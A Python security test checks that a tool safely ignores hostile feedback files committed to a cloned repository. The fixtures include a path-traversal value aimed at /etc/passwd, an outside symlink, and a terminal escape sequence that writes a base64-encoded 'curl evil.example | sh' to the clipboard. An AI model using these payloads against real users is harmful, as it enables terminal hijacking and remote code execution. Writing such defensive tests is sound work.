"""Hostile clone, feedback records: what committed "Not this fix" / "This fixed it" files can do.

A repository can commit any file under ``.teamlore/feedback/``. A huge file, malformed JSON, a
verdict naming a path instead of a record id, a symlink to a file outside the clone, or a
verdict whose text is escape sequences and markup: each is reported by ``teamlore doctor``
and ignored (it hides no fix and counts nothing), the victim's terminal receives none of its
text, and nothing in the clone or outside it is written.
"""

from __future__ import annotations

import json
from pathlib import Path

from memory_store.bugs.feedback import FeedbackStore
from memory_store.bugs.records import BugStore
from memory_store.workspace import Workspace
from tests.security.hostile_repo import Symlink, hostile_clone, run_teamlore, tree_digest, user_env

ERROR = ("Traceback (most recent call last):\n  File \"app.py\", line 1, in <module>\n    import foo\n"
         "ModuleNotFoundError: No module named 'foo'\n")
ESCAPES = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J[bold red]ALERT[/] <img src=x>"


def files(scratch: Workspace, outside: Path) -> tuple[str, dict[str, str | bytes | Symlink]]:
    rec = BugStore(scratch).build(ERROR, "add foo to requirements.txt", author="mallory")
    rec["schema"] = "teamlore.bug/1"
    good = FeedbackStore(scratch).build("confirmed", rec["id"], ERROR, author="mallory")
    verdict = dict(good, schema="teamlore.feedback/1")
    bad_record = dict(verdict, id="fb-escape", verdict="rejected", record="../../../../etc/passwd")
    shouting = dict(verdict, id="fb-shout", author=ESCAPES, source="x" * 30,
                    error={"type": ESCAPES, "message": ESCAPES, "frames": []})
    huge = dict(verdict, id="fb-huge", verdict="rejected", padding="x" * (5 * 1024 * 1024))
    return rec["id"], {
        f".teamlore/bugs/{rec['id']}.json": json.dumps(rec),
        f".teamlore/feedback/{good['id']}.json": json.dumps(verdict),
        ".teamlore/feedback/fb-escape.json": json.dumps(bad_record),
        ".teamlore/feedback/fb-shout.json": json.dumps(shouting),
        ".teamlore/feedback/fb-huge.json": json.dumps(huge),
        ".teamlore/feedback/fb-broken.json": '{"verdict": "rejected", "record": ',
        ".teamlore/feedback/fb-deep.json": "[" * 100_000,
        ".teamlore/feedback/fb-link.json": Symlink(str(outside)),
    }


def test_hostile_feedback_files_hide_nothing_and_reach_no_terminal(tmp_path: Path) -> None:
    scratch = Workspace((tmp_path / "scratch").resolve())
    outside = tmp_path / "outside.json"
    outside.write_text(json.dumps({"schema": "teamlore.feedback/1", "id": "fb-link", "verdict": "rejected"}))
    record_id, committed = files(scratch, outside)
    clone = hostile_clone(tmp_path, committed)
    env = user_env(tmp_path)
    before_outside = outside.read_bytes()
    before = tree_digest(clone / ".teamlore" / "feedback")

    match = run_teamlore("bugs", "match", "--error", "-", "--all", "--json", cwd=clone, env=env, stdin=ERROR)
    assert match.returncode == 0, match.stderr
    found = json.loads(match.stdout)["matches"]
    assert [m["id"] for m in found] == [record_id]  # no hostile verdict hides the fix
    assert found[0]["confirmations"] == 2 and found[0]["rejections"] == 0  # the readable two count

    table = run_teamlore("bugs", "match", "--error", "-", "--all", cwd=clone, env=env, stdin=ERROR)
    assert table.returncode == 0, table.stderr
    assert "\x1b" not in table.stdout + table.stderr and "fixed it 2 times" in table.stdout

    doctor = run_teamlore("doctor", "--json", cwd=clone, env=env)
    assert doctor.returncode == 1  # unreadable memory files are faults
    problems = {Path(p["path"]).name: p["reason"] for p in json.loads(doctor.stdout)["problems"]}
    assert {"fb-escape.json", "fb-huge.json", "fb-broken.json", "fb-deep.json", "fb-link.json"} <= set(problems)
    assert "record" in problems["fb-escape.json"]
    assert "fb-shout.json" not in problems  # well-formed: its text is data, shown nowhere unescaped
    text = run_teamlore("doctor", cwd=clone, env=env)
    assert "\x1b" not in text.stdout + text.stderr

    assert tree_digest(clone / ".teamlore" / "feedback") == before
    assert outside.read_bytes() == before_outside
